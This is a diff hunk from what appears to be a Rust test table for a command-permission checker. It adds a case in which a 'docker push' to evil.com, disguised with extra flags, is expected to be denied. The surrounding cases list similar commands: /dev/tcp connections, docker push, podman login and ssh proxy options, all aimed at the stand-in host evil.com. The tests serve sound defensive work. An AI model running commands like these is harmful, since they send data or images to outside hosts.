@@ -1214,6 +1214,12 @@ const HOSTS: &[Case] = &[
     case(DOMAINS, B, "echo x > /dev/tcp/evil.com/80", Deny),
     case(DOMAINS, B, "exec 3<>/dev/tcp/evil.com/80", Deny),
     case(DOMAINS, B, "docker push evil.com/img:1", Deny),
+    case(
+        DOMAINS,
+        B,
+        "docker --config /tmp/c -D push evil.com/img:1",
+        Deny,
+    ),
     case(DOMAINS, B, "podman login evil.com", Deny),
     case(DOMAINS, B, "ssh -o ProxyJump=evil.com host.ok", Deny),
     case(DOMAINS, B, "ssh -o \"HostName evil.com\" alias", Deny),
